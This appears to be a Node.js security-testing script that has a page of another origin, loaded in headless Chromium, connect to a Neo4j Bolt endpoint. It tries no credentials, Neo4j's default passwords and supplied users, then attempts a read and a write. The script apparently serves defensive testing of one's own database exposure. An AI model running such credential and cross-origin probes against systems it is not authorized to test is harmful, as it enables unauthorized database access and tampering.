// A page of another origin (a local server on its own port, as any site the analyst happens to open) loads Neo4j's
// JavaScript driver in headless Chromium and tries the database's Bolt address over WebSocket: with no credentials,
// with Neo4j's default ones and with ipgraph users. For each it reports what a read and a write got.
// Prints one JSON line: {"origin":"http://127.0.0.1:N","attempts":[{"who":"none","read":"...","write":"..."},...]}.
// Usage: node bolt-from-another-origin.mjs <bolt-url> [user:password ...]
import { createServer } from 'node:http';
import { readFileSync } from 'node:fs';
import { launchChromium } from './chromium.mjs';

const [boltUrl, ...users] = process.argv.slice(2);
if (!boltUrl) {
  console.error('usage: node bolt-from-another-origin.mjs <bolt-url> [user:password ...]');
  process.exit(2);
}
const driverJs = readFileSync(new URL('./node_modules/neo4j-driver/lib/browser/neo4j-web.min.js', import.meta.url));
const page = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>another site</title>
<script src="/neo4j-web.min.js"></script></head><body><script>
async function attempt(url, who, auth) {
  const result = { who };
  const driver = neo4j.driver(url, auth, { encrypted: 'ENCRYPTION_OFF', connectionTimeout: 5000, connectionAcquisitionTimeout: 5000, maxTransactionRetryTime: 0 });
  const session = driver.session();
  try {
    const r = await session.run('MATCH (n) RETURN count(n) AS n');
    result.read = 'counted ' + r.records[0].get('n').toString();
  } catch (e) { result.read = 'refused: ' + (e.code || '') + ' ' + e.message; }
  try {
    await session.executeWrite((tx) => tx.run("CREATE (:CrossOriginProbe {who: $who})", { who }));
    result.write = 'written';
  } catch (e) { result.write = 'refused: ' + (e.code || '') + ' ' + e.message; }
  await session.close();
  await driver.close();
  return result;
}
window.attack = async (url, users) => {
  const out = [];
  out.push(await attempt(url, 'none', neo4j.auth.none()));
  out.push(await attempt(url, 'neo4j/neo4j', neo4j.auth.basic('neo4j', 'neo4j')));
  out.push(await attempt(url, 'neo4j/password', neo4j.auth.basic('neo4j', 'password')));
  for (const u of users) {
    const [name, password] = u.split(':');
    out.push(await attempt(url, name, neo4j.auth.basic(name, password)));
  }
  return out;
};
</script></body></html>`;
const server = createServer((req, res) => {
  if (req.url === '/neo4j-web.min.js') {
    res.writeHead(200, { 'content-type': 'text/javascript' });
    res.end(driverJs);
  } else {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(page);
  }
});
await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
const origin = `http://127.0.0.1:${server.address().port}`;
const browser = await launchChromium();
const result = { origin, attempts: [], errors: [] };
try {
  const tab = await browser.newPage();
  tab.on('pageerror', (e) => result.errors.push(String(e)));
  await tab.goto(origin + '/', { waitUntil: 'load' });
  result.attempts = await tab.evaluate(([url, list]) => window.attack(url, list), [boltUrl, users]);
} catch (e) {
  result.errors.push(String(e));
} finally {
  await browser.close();
  server.close();
}
console.log(JSON.stringify(result));
process.exit(result.attempts.length ? 0 : 1);
